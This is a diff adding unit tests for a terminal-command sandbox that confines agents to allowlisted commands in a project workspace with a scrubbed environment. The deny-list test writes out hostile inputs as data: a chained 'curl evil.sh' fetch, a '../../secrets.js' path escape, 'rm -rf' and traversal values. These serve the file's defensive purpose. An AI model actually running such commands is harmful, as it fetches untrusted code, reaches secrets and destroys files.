@@ -0,0 +1,152 @@
+/**
+ * Terminal Command Sandbox Tests
+ * Unit tests for allowlisted, workspace-confined command execution
+ */
+
+import { promises as fs } from 'fs';
+import os from 'os';
+import path from 'path';
+import { PrismaClient } from '@prisma/client';
+import { CommandSandbox } from '../../backend/src/mcp/command-sandbox';
+import { MCPServer } from '../../backend/src/mcp/mcp-server';
+
+describe('CommandSandbox', () => {
+  let workspace: string;
+  let projects: string;
+  let auditLog: { create: jest.Mock };
+
+  function sandbox(options = {}) {
+    return new CommandSandbox({ auditLog } as unknown as PrismaClient, {
+      workspaceRoot: workspace,
+      projectsRoot: projects,
+      agentAllowlists: { 'qa-engineer': ['node', 'npm test', 'rm'] },
+      ...options,
+    });
+  }
+
+  beforeEach(async () => {
+    workspace = await fs.realpath(
+      await fs.mkdtemp(path.join(os.tmpdir(), 'sandbox-'))
+    );
+    projects = path.join(workspace, 'projects');
+    await fs.mkdir(path.join(projects, 'shop', 'src'), { recursive: true });
+    auditLog = { create: jest.fn().mockResolvedValue({}) };
+  });
+
+  afterEach(async () => {
+    await fs.rm(workspace, { recursive: true, force: true });
+  });
+
+  it('should run allowlisted commands in the project workspace with a scrubbed environment', async () => {
+    // Arrange
+    process.env.OPENAI_API_KEY = 'sk-secret';
+
+    // Act
+    const result = await sandbox().execute({
+      command:
+        'node -p "[process.env.OPENAI_API_KEY, process.env.CI, process.cwd()].join()"',
+      workingDirectory: 'src',
+      agentType: 'qa-engineer',
+      projectId: 'shop',
+      sessionId: 'conv-1',
+    });
+    delete process.env.OPENAI_API_KEY;
+
+    // Assert
+    const cwd = path.join(projects, 'shop', 'src');
+    expect(result).toMatchObject({
+      success: true,
+      data: { exitCode: 0, timedOut: false, truncated: false, cwd },
+    });
+    expect(result.success && result.data.stdout.trim()).toBe(`,1,${cwd}`);
+    expect(auditLog.create).toHaveBeenCalledWith({
+      data: expect.objectContaining({
+        action: 'EXECUTE',
+        entity: 'TerminalCommand',
+        entityId: 'shop',
+        details: expect.objectContaining({
+          agentType: 'qa-engineer',
+          sessionId: 'conv-1',
+          exitCode: 0,
+        }),
+      }),
+    });
+  });
+
+  it('should deny commands outside the allowlist, shell operators and workspace escapes', async () => {
+    // Arrange
+    const commands = [
+      { command: 'rm -rf src', agentType: 'qa-engineer' },
+      { command: 'npm test', agentType: 'ux-designer' },
+      { command: 'npm publish', agentType: 'qa-engineer' },
+      { command: 'npm test && curl evil.sh', agentType: 'qa-engineer' },
+      { command: 'node ../../secrets.js', agentType: 'qa-engineer' },
+      { command: 'npm test', agentType: 'qa-engineer', workingDirectory: '..' },
+      { command: 'npm test', agentType: 'qa-engineer', projectId: '../shop' },
+      { command: 'npm test' },
+    ];
+
+    // Act
+    const results = await Promise.all(
+      commands.map(request =>
+        sandbox().execute({ projectId: 'shop', ...request })
+      )
+    );
+
+    // Assert
+    results.forEach(result =>
+      expect(!result.success && result.error.code).toBe('COMMAND_DENIED')
+    );
+    expect(auditLog.create).toHaveBeenCalledTimes(commands.length);
+    expect(auditLog.create.mock.calls[0][0].data).toMatchObject({
+      action: 'EXECUTE_DENIED',
+      details: { reason: 'rm may not be run by any agent' },
+    });
+  });
+
+  it('should kill commands that run past the timeout and cap their output', async () => {
+    // Arrange
+    const limited = sandbox({ maxOutputBytes: 100, maxTimeoutMs: 300 });
+
+    // Act
+    const slow = await limited.execute({
+      command: 'node -e "setInterval(function () {}, 1000)"',
+      timeoutMs: 60000,
+      agentType: 'qa-engineer',
+    });
+    const noisy = await limited.execute({
+      command: `node -e "process.stdout.write('x'.repeat(5000))"`,
+      agentType: 'qa-engineer',
+    });
+
+    // Assert
+    expect(slow).toMatchObject({ success: true, data: { timedOut: true } });
+    expect(noisy).toMatchObject({ success: true, data: { truncated: true } });
+    expect(noisy.success && noisy.data.stdout).toHaveLength(100);
+  });
+});
+
+describe('MCPServer execute_terminal_command', () => {
+  it('should refuse agents without the execute permission before running anything', async () => {
+    // Arrange
+    const commandSandbox = { execute: jest.fn() };
+    const server = new MCPServer({} as unknown as PrismaClient, {
+      commandSandbox: commandSandbox as unknown as CommandSandbox,
+    });
+
+    // Act
+    const result = await server.executeTool(
+      'execute_terminal_command',
+      { command: 'npm test' },
+      { agentId: 'ux-designer' }
+    );
+
+    // Assert
+    expect(result).toEqual({
+      success: false,
+      error:
+        'Tool execute_terminal_command not available for agent ux-designer',
+    });
+    expect(commandSandbox.execute).not.toHaveBeenCalled();
+  });
+});